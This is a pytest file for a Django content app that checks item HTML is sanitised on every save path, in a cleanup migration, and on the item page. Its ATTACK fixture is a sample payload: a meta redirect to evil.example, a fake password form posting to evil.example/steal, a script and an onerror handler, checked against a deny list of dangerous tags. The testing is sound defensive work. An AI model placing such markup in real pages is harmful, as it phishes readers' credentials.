"""Every way an item's HTML is written stores it sanitised: the admin's form, the editors'
`add_item` (and the demo through it), feed ingestion, `update()` and `bulk_update()`. Rows
stored raw before that are cleaned by a migration, and the item page sanitises what it
shows, so even a raw row reaches no reader."""

import importlib
from types import SimpleNamespace

import pytest
from django.apps import apps
from django.db import connection
from django.urls import reverse

from budbringer.content.editorial import add_item
from budbringer.content.ingest import Ingest
from budbringer.content.models import Item
from budbringer.sources.pipeline import PreparedItem
from tests.conftest import store_unsanitised_html
from tests.sources.unsafe_html import unsafe_parts

# What the finding found stored through the admin: a redirect away, a phishing form, a
# script, an event handler; and a relative image that should keep working.
ATTACK = (
    '<meta http-equiv="refresh" content="0;url=https://evil.example/phish">'
    "<p>Fjord <strong>power</strong></p>"
    '<form action="https://evil.example/steal" method="post"><input name="password">'
    "<button>Sign in again</button></form>"
    "<script>document.title = 'owned'</script>"
    '<img src="/img/turbine.jpg" alt="Turbine" onerror="alert(1)">'
)
URL = "https://blog.example.com/nordlys/turbines"
KEPT = "<p>Fjord <strong>power</strong></p>"
MIGRATION = "budbringer.content.migrations.0005_resanitize_content_html"
IMAGE = '<img src="https://blog.example.com/img/turbine.jpg" alt="Turbine"'


def assert_harmless(html: str) -> None:
    assert unsafe_parts(html) == [], html
    for word in ("<meta", "<form", "<input", "<script", "owned", "onerror", "evil.example"):
        assert word not in html, html
    assert KEPT in html  # the words survive


def stored(item: Item) -> str:
    return Item.objects.values_list("content_html", flat=True).get(pk=item.pk)


def _admin_item_data(cast, **fields):
    return {
        "title": "Turbines",
        "url": URL,
        "summary": "",
        "language": "en",
        "published_at_0": "2025-03-14",
        "published_at_1": "12:00:00",
        "approval_state": "approved",
        "kind": "article",
        "promotion": "none",
        "expires_at_0": "",
        "expires_at_1": "",
        "share_texts-TOTAL_FORMS": "0",
        "share_texts-INITIAL_FORMS": "0",
        "share_texts-MIN_NUM_FORMS": "0",
        "share_texts-MAX_NUM_FORMS": "1000",
        **fields,
    }


def test_the_admin_add_form_stores_sanitised_html(cast, login):
    data = _admin_item_data(cast, content_html=ATTACK)
    response = login(cast.erik).post(reverse("admin:content_item_add"), data)
    assert response.status_code == 302, response.context and response.context["errors"]
    html = stored(Item.objects.get(url=URL))
    assert_harmless(html)
    assert IMAGE in html  # made absolute against the item's own address


def test_the_admin_change_form_stores_sanitised_html(cast, login):
    item = cast.article
    data = _admin_item_data(cast, url=item.url, title=item.title, content_html=ATTACK)
    response = login(cast.alice).post(reverse("admin:content_item_change", args=[item.pk]), data)
    assert response.status_code == 302, response.context and response.context["errors"]
    assert_harmless(stored(item))


def test_the_admin_form_says_what_happens_to_html(cast, login):
    response = login(cast.erik).get(reverse("admin:content_item_add"))
    assert "is removed when it is saved" in response.content.decode()


def test_add_item_stores_sanitised_html_and_returns_what_it_stored(cast):
    item = add_item(
        cast.erik, share_texts=[], title="Turbines", url=URL, canonical_url=URL,
        content_html=ATTACK,
    )  # fmt: skip
    assert_harmless(stored(item))
    assert item.content_html == stored(item)


def test_ingestion_stores_sanitised_html_even_if_handed_raw_html(cast):
    prepared = PreparedItem(
        title="Turbines", url=URL, canonical_url=URL, guid=URL, html=ATTACK, text="Fjord power",
        summary="", author="", published=None, language="en", image_url="", kind="article",
        duration_seconds=None,
    )  # fmt: skip
    report = Ingest().store(cast.blog, [prepared])
    assert report.new == 1
    html = stored(Item.objects.get(url=URL))
    assert_harmless(html)
    assert IMAGE in html


def test_update_and_bulk_update_store_sanitised_html(cast):
    Item.objects.filter(pk=cast.article.pk).update(content_html=ATTACK)
    assert_harmless(stored(cast.article))

    cast.article.content_html = ATTACK
    Item.objects.bulk_update([cast.article], ["content_html"])
    assert_harmless(stored(cast.article))


def test_the_item_page_does_not_trust_a_raw_row(cast, login):
    store_unsanitised_html(cast.article, ATTACK)
    assert "<meta" in stored(cast.article)  # really raw in the database
    html = login(cast.bob).get(f"/items/{cast.article.pk}/").content.decode()
    content = html.split('<div class="item-content">', 1)[1].split("</div>", 1)[0]
    assert_harmless(content)


@pytest.fixture
def resanitize(monkeypatch):
    migration = importlib.import_module(MIGRATION)
    monkeypatch.setattr(migration, "BATCH_SIZE", 2)  # several batches with a few rows

    def run():
        # What RunPython hands the function: the app registry and a schema editor (only
        # its connection is used).
        migration.resanitize_content_html(apps, SimpleNamespace(connection=connection))

    return run


def test_the_migration_sanitises_rows_stored_raw(cast, resanitize):
    raw = []
    for n in range(5):
        item = add_item(
            cast.erik, share_texts=[], title=f"Old {n}", url=f"{URL}/{n}",
            canonical_url=f"{URL}/{n}",
        )  # fmt: skip
        store_unsanitised_html(item, ATTACK)
        raw.append(item)
    clean = cast.article
    Item.objects.filter(pk=clean.pk).update(content_html=KEPT)
    resanitize()
    for item in raw:
        html = stored(item)
        assert_harmless(html)
        assert IMAGE in html
    assert stored(clean) == KEPT


def test_html_the_pipeline_sanitised_is_not_cleaned_again_on_the_way_in(cast, monkeypatch):
    """Feed ingestion hands over what sanitize_html returned; cleaning it twice more per
    item (pre_save, then get_db_prep_save) would only cost time."""
    from budbringer.content import fields
    from budbringer.sources.sanitize import sanitize_html

    calls = []

    def counting(html, base_url=""):
        calls.append(html)
        return sanitize_html(html, base_url)

    monkeypatch.setattr(fields, "sanitize_html", counting)
    clean = sanitize_html(ATTACK, URL)
    prepared = PreparedItem(
        title="Turbines", url=URL, canonical_url=URL, guid=URL, html=clean, text="Fjord power",
        summary="", author="", published=None, language="en", image_url="", kind="article",
        duration_seconds=None,
    )  # fmt: skip
    assert Ingest().store(cast.blog, [prepared]).new == 1
    assert calls == []
    assert stored(Item.objects.get(url=URL)) == clean
    # The same words as a plain string (a form's, an editor's) are cleaned on the way in.
    Item.objects.filter(url=URL).update(content_html=str(clean) + "<script>x</script>")
    assert len(calls) == 1
    assert_harmless(stored(Item.objects.get(url=URL)))
